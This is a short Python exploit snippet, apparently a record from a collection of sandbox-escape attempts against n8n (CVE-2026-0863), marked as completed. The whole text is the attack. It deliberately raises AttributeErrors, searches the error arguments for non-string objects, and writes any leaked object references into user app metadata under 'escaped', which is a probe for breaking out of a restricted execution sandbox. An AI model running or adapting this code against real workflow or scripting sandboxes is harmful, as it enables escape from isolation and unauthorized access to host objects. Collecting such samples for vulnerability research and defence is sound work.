# origin: n8n CVE-2026-0863
# technique: the arguments of an error are searched for objects
# goal: language
# outcome: COMPLETED

import json
def on_execute_post_login(event, api):
    for find in (lambda: getattr(json, "nope"), lambda: getattr(api, "nope"), lambda: event.nope, lambda: getattr(1, "nope")):
        try:
            find()
        except AttributeError as error:
            for part in error.args:
                if not isinstance(part, str):
                    api.user.set_app_metadata("escaped", str(part))
